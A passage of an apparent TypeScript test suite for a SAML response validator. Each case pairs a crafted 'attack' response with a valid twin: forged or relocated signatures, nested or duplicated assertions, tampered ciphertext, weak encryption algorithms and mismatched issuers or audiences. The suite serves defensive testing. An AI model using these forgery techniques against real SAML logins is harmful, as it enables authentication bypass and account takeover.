  code: ErrorCode,
  attack: Partial<RespondOptions>,
  twin: Partial<RespondOptions> = {},
): Attack {
  return { rule, code, attack: () => respond(attack), twin: () => respond(twin) };
}

describe("Rules of the response", () => {
  check([
    option("A status other than Success is refused", "saml_status_not_success", {
      status: { code: responder, nested: authnFailed },
      withAssertion: true,
    }),
    option(
      "A signed status other than Success is refused",
      "saml_status_not_success",
      { sign: "response", status: { code: responder, message: "not assigned" } },
      { sign: "response" },
    ),
    option("A Response of version 1.1 is refused", "saml_bad_version", { version: "1.1" }),
    option("An Assertion of version 1.1 is refused", "saml_bad_version", {
      assertionVersion: "1.1",
    }),
    option("A wrong Destination is refused", "saml_destination_mismatch", { destination: other }),
    option("An empty Destination is a wrong one", "saml_destination_mismatch", { destination: "" }),
    option(
      "A signed response must name its Destination; an unsigned one need not",
      "saml_destination_missing",
      { sign: "response", destination: null },
      { sign: "assertion", destination: null },
    ),
    option(
      "A Destination put on a signed response afterwards does not count",
      "saml_digest_mismatch",
      {
        sign: "response",
        destination: null,
        editMessage: (xml) => replaced(xml, " ID=", ` Destination="${acsUrl}" ID=`),
      },
      { sign: "response" },
    ),
    {
      rule: "A signed Response without Issuer is refused; an unsigned one may leave it out (Profiles 4.1.4.2)",
      code: "saml_issuer_mismatch",
      attack: () => respond({ sign: "both", responseIssuer: null }),
      twin: () => respond({ responseIssuer: null }),
    },
    {
      rule: "A Response without Issuer around an encrypted assertion is refused",
      code: "saml_issuer_mismatch",
      attack: () => respond({ encryptFor: forUs, responseIssuer: null }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "An Issuer of another Format than entity is refused",
      code: "saml_issuer_mismatch",
      attack: () =>
        respond({
          editAssertion: (xml) => replaced(xml, "nameid-format:entity", "nameid-format:persistent"),
        }),
      twin: () =>
        respond({ editAssertion: (xml) => replaced(xml, ` Format="${entityFormat}"`, "") }),
    },
    {
      rule: "An AuthnContext that says nothing is refused",
      code: "saml_bad_structure",
      attack: () => respond({ editAssertion: (xml) => replaced(xml, context(xml), "") }),
    },
    {
      rule: "A foreign element in AuthnContext is refused",
      code: "saml_bad_structure",
      attack: () =>
        respond({
          editAssertion: (xml) =>
            replaced(xml, context(xml), `${context(xml)}<x:y xmlns:x="urn:x"></x:y>`),
        }),
      twin: () =>
        respond({
          editAssertion: (xml) =>
            replaced(
              xml,
              context(xml),
              `${context(xml)}<saml:AuthenticatingAuthority>urn:a</saml:AuthenticatingAuthority>`,
            ),
        }),
    },
    {
      rule: "An ID with white space is refused; any other form is an ID",
      code: "saml_bad_id",
      attack: () => respond({ assertionId: "a b" }),
      twin: () => respond({ assertionId: "0b1e5a6c-9f3d-4c2e-8a7b-1d2e3f4a5b6c" }),
    },
    option("A Response of another Issuer is refused", "saml_issuer_mismatch", {
      responseIssuer: stranger.entityId,
    }),
    option("An Assertion of another Issuer is refused", "saml_issuer_mismatch", {
      issuer: stranger.entityId,
    }),
    option("An Issuer that only begins like ours is another", "saml_issuer_mismatch", {
      issuer: `${signer.entityId}/x`,
    }),
    {
      rule: "An Assertion without Issuer is refused",
      code: "saml_bad_structure",
      attack: () => respond({ issuer: null, sign: "response" }),
      twin: signedResponse,
    },
    option("InResponseTo on the Response must be the signed one", "saml_request_unknown", {
      responseInResponseTo: "_request2",
    }),
    option(
      "InResponseTo on the unsigned Response alone is refused",
      "saml_request_unknown",
      { inResponseTo: null, responseInResponseTo: "_request1" },
      { responseInResponseTo: null },
    ),
    option(
      "An empty InResponseTo is refused",
      "saml_request_unknown",
      { inResponseTo: "", responseInResponseTo: null },
      { inResponseTo: null },
    ),
    {
      rule: "A malformed IssueInstant is refused",
      code: "saml_bad_time",
      attack: () => respond().replace(/IssueInstant="[^"]*"/, 'IssueInstant="yesterday"'),
    },
  ]);
});

describe("Rules of the subject", () => {
  check([
    option("A wrong Recipient is refused", "saml_recipient_mismatch", { recipient: other }),
    option("A missing Recipient is refused", "saml_recipient_mismatch", { recipient: null }),
    option("A subject without confirmation is refused", "saml_subject_confirmation", {
      confirmationMethod: null,
    }),
    option("sender-vouches is no bearer confirmation", "saml_subject_confirmation", {
      confirmationMethod: "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches",
    }),
    option("holder-of-key is no bearer confirmation", "saml_subject_confirmation", {
      confirmationMethod: "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key",
    }),
    option(
      "NotBefore on the confirmation is refused, even a past one",
      "saml_subject_confirmation",
      {
        confirmationNotBeforeMs: nowMs - minuteMs,
      },
    ),
    option("A confirmation without NotOnOrAfter is refused", "saml_subject_confirmation", {
      confirmationNotOnOrAfterMs: null,
    }),
    option(
      "A confirmation that has expired, the skew spent, is refused",
      "saml_expired",
      { confirmationNotOnOrAfterMs: nowMs - skewMs },
      { confirmationNotOnOrAfterMs: nowMs - skewMs + 1 },
    ),
    {
      rule: "An empty SubjectConfirmation is refused; one that holds beside it suffices",
      code: "saml_subject_confirmation",
      attack: () =>
        respond({
          editAssertion: (xml) => replaced(xml, cut(xml, "saml:SubjectConfirmationData"), ""),
        }),
      twin: () =>
        respond({
          editAssertion: (xml) =>
            insertBefore(
              xml,
              "<saml:SubjectConfirmation ",
              '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"></saml:SubjectConfirmation>',
            ),
        }),
    },
    {
      rule: "Two confirmations that answer different requests are refused",
      code: "saml_subject_confirmation",
      attack: () =>
        respond({
          editAssertion: (xml) => {
            const confirmation = cut(xml, "saml:SubjectConfirmation").replaceAll(
              "_request1",
              "_r2",
            );
            return insertBefore(xml, "</saml:Subject>", confirmation);
          },
        }),
      twin: () =>
        respond({
          editAssertion: (xml) =>
            insertBefore(xml, "</saml:Subject>", cut(xml, "saml:SubjectConfirmation")),
        }),
    },
    {
      rule: "An Assertion without Subject is refused",
      code: "saml_bad_structure",
      attack: () =>
        respond({ editAssertion: (xml) => replaced(xml, cut(xml, "saml:Subject"), "") }),
    },
  ]);
});

describe("Rules of the conditions", () => {
  check([
    option(
      "Conditions that have expired, the skew spent, are refused",
      "saml_expired",
      { notOnOrAfterMs: nowMs - skewMs },
      { notOnOrAfterMs: nowMs - skewMs + 1 },
    ),
    option(
      "Conditions that are not valid yet, the skew spent, are refused",
      "saml_not_yet_valid",
      { notBeforeMs: nowMs + skewMs + 1 },
      { notBeforeMs: nowMs + skewMs },
    ),
    option(
      "An assertion without AudienceRestriction is refused",
      "saml_audience_missing",
      { audience: null },
      { notBeforeMs: null, notOnOrAfterMs: null },
    ),
    {
      rule: "An assertion without Conditions is refused",
      code: "saml_audience_missing",
      attack: () =>
        respond({ editAssertion: (xml) => replaced(xml, cut(xml, "saml:Conditions"), "") }),
    },
    option("Another audience is refused", "saml_audience_mismatch", {
      audience: "https://other.example/",
    }),
    option("An AudienceRestriction without Audience is refused", "saml_audience_mismatch", {
      audience: [],
    }),
    option(
      "An audience that has ours as prefix is another",
      "saml_audience_mismatch",
      { audience: other },
      { audience: [other, acsUrl] },
    ),
    option(
      "Every AudienceRestriction must name us",
      "saml_audience_mismatch",
      { extraConditions: restriction("https://other.example/") },
      { extraConditions: restriction(acsUrl) },
    ),
    option(
      "An unknown Condition is refused, OneTimeUse and ProxyRestriction are known",
      "saml_unknown_condition",
      { extraConditions: "<saml:Condition></saml:Condition>" },
      {
        extraConditions:
          '<saml:OneTimeUse></saml:OneTimeUse><saml:ProxyRestriction Count="0"></saml:ProxyRestriction>',
      },
    ),
    option("A Condition of another namespace is refused", "saml_unknown_condition", {
      extraConditions: '<x:OneTimeUse xmlns:x="urn:x"></x:OneTimeUse>',
    }),
    option("An assertion without AuthnStatement is refused", "saml_no_authn_statement", {
      authnInstantMs: null,
    }),
    option(
      "SessionNotOnOrAfter in the past, the skew spent, is refused",
      "saml_session_expired",
      { sessionNotOnOrAfterMs: nowMs - skewMs },
      { sessionNotOnOrAfterMs: nowMs - skewMs + 1 },
    ),
    {
      rule: "A time that is not UTC is refused",
      code: "saml_bad_time",
      attack: () =>
        respond({
          editAssertion: (xml) =>
            xml.replace(/ NotBefore="[^"]*"/, ' NotBefore="2026-06-01T12:00:00+02:00"'),
        }),
      twin: () =>
        respond({
          editAssertion: (xml) =>
            xml.replace(/ NotBefore="[^"]*"/, ' NotBefore="2026-06-01T11:59:59.1234567+00:00"'),
        }),
    },
    {
      rule: "An element that the schema does not know in an Assertion is refused",
      code: "saml_bad_structure",
      attack: () =>
        respond({ editAssertion: (xml) => insertBefore(xml, assertionEnd, "<saml:X></saml:X>") }),
    },
    {
      rule: "Text between the parts of an Assertion is refused",
      code: "saml_bad_structure",
      attack: () => respond({ editAssertion: (xml) => insertBefore(xml, assertionEnd, "x") }),
      twin: () => respond({ editAssertion: (xml) => insertBefore(xml, assertionEnd, "\n ") }),
    },
    {
      rule: "An EncryptedAttribute is refused, since skipping it would take groups away",
      code: "saml_bad_structure",
      attack: () =>
        respond({
          editAssertion: (xml) =>
            insertBefore(
              xml,
              "</saml:AttributeStatement>",
              "<saml:EncryptedAttribute></saml:EncryptedAttribute>",
            ),
        }),
    },
  ]);
});

const forUs = { certificatePem: receiver.certificatePem };
const cbc = { ...forUs, algorithm: "aes256-cbc" } as const;

describe("Encryption", () => {
  check([
    {
      rule: "An assertion that is encrypted for another key is refused; ours may be one of several",
      code: "saml_decryption_failed",
      attack: () => respond({ encryptFor: { certificatePem: stranger.certificatePem } }),
      twin: () => respond({ encryptFor: forUs }),
      twinIn: { expected: { decryptionKeys: [stranger.privateKey, receiver.privateKey] } },
    },
    {
      rule: "Without a decryption key an encrypted assertion is refused",
      code: "saml_decryption_failed",
      attack: () => respond({ encryptFor: forUs }),
      in: { expected: { decryptionKeys: [] } },
      twinIn: {},
    },
    {
      rule: "RSA 1.5 is refused",
      code: "saml_encryption_algorithm",
      attack: () => respond({ encryptFor: { ...forUs, keyTransport: "rsa-1_5" } }),
      twin: () => respond({ encryptFor: { ...forUs, keyTransport: "rsa-oaep" } }),
    },
    {
      rule: "CBC is refused without a signed Response",
      code: "saml_encryption_algorithm",
      attack: () => respond({ encryptFor: cbc }),
      twin: () => respond({ sign: "both", encryptFor: cbc }),
    },
    {
      rule: "CBC is accepted without a signed Response only by the organization's switch",
      code: "saml_encryption_algorithm",
      attack: () => respond({ encryptFor: cbc }),
      twin: () => respond({ encryptFor: cbc }),
      twinIn: { expected: { allowCbc: true } },
    },
    {
      rule: "Triple DES is refused",
      code: "saml_encryption_algorithm",
      attack: () =>
        replaced(
          respond({ encryptFor: forUs }),
          "http://www.w3.org/2009/xmlenc11#aes256-gcm",
          "http://www.w3.org/2001/04/xmlenc#tripledes-cbc",
        ),
    },
    {
      rule: "A truncated GCM tag is refused",
      code: "saml_decryption_failed",
      attack: () =>
        respond({ encryptFor: { ...forUs, editCiphertext: (bytes) => bytes.subarray(0, -4) } }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "A ciphertext that was changed is refused",
      code: "saml_decryption_failed",
      attack: () =>
        respond({
          encryptFor: {
            ...forUs,
            editCiphertext: (bytes) =>
              Buffer.concat([
                bytes.subarray(0, 20),
                Buffer.of((bytes[20] ?? 0) ^ 1),
                bytes.subarray(21),
              ]),
          },
        }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "A ciphertext shorter than nonce and tag is refused",
      code: "saml_decryption_failed",
      attack: () =>
        respond({ encryptFor: { ...forUs, editCiphertext: (bytes) => bytes.subarray(0, 20) } }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "Plaintext that is no well-formed XML is refused like any other failure",
      code: "saml_decryption_failed",
      attack: () => respond({ encryptFor: forUs, editSignedAssertion: (xml) => xml.slice(0, -1) }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "Plaintext that is another element than an Assertion is refused",
      code: "saml_decryption_failed",
      attack: () => respond({ encryptFor: forUs, editSignedAssertion: () => "<samlp:Response/>" }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "Anybody can encrypt for us: an unsigned encrypted assertion is refused",
      code: "saml_signature_missing",
      attack: () => respond({ sign: "none", encryptFor: forUs }),
      twin: () => respond({ sign: "response", encryptFor: forUs }),
    },
    {
      rule: "An encrypted assertion signed by a stranger is refused",
      code: "saml_signature_invalid",
      attack: () =>
        stranger.respond(
          responseOptions({
            encryptFor: forUs,
            issuer: idp.entityId,
            responseIssuer: idp.entityId,
          }),
        ),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "An encrypted assertion may not repeat an ID of the response around it",
      code: "saml_bad_id",
      attack: () => respond({ encryptFor: forUs, assertionId: "_response1" }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "Two assertions inside one encryption are refused",
      code: "saml_decryption_failed",
      attack: () => respond({ encryptFor: forUs, editSignedAssertion: (xml) => xml + forge(xml) }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "An assertion inside the encrypted assertion is refused",
      code: "saml_assertion_count",
      attack: () =>
        respond({
          encryptFor: forUs,
          editSignedAssertion: (xml) => insertBefore(xml, assertionEnd, forge(xml)),
        }),
      twin: () => respond({ encryptFor: forUs }),
    },
    {
      rule: "More EncryptedKeys than anybody needs are refused before any is tried",
      code: "saml_bad_structure",
      attack: () => {
        const xml = respond({ encryptFor: forUs });
        const key = cut(xml, "xenc:EncryptedKey");
        return replaced(xml, key, key.repeat(5));
      },
      twin: () => {
        const mine = respond({ encryptFor: forUs });
        const key = cut(respond({ encryptFor: forUs }), "xenc:EncryptedKey");
        return insertBefore(mine, "<xenc:EncryptedKey>", key.repeat(3));
      },
    },
    {
      rule: "An EncryptedID outside what is signed is refused; one that cannot be opened changes nothing",
      code: "saml_digest_mismatch",
      attack: () =>
        replaced(
          respond(),
          cut(respond(), "saml:NameID"),
          cut(respond({ encryptNameIdFor: forUs }), "saml:EncryptedID"),
        ),
      twin: () => respond({ encryptNameIdFor: { certificatePem: stranger.certificatePem } }),
    },
  ]);
});

describe("Genuine signatures in odd places", () => {
  check([
    {
      rule: "A signature of the Response by reference to the Assertion is refused",
      code: "saml_signature_structure",
      attack: () => {
        const xml = respond({ sign: "none" });
        const assertion = cut(xml, "saml:Assertion");
        const signature = signatureOf(assertion, {
          privateKey: signer.privateKey,
          certificatePem: null,
        });
        return insertBefore(xml, statusStart, signature);
      },
      twin: () => {
        const xml = respond({ sign: "none" });
        const signature = signatureOf(xml, {
          privateKey: signer.privateKey,
          certificatePem: null,
        });
        return insertBefore(xml, statusStart, signature);
      },
    },
  ]);
});
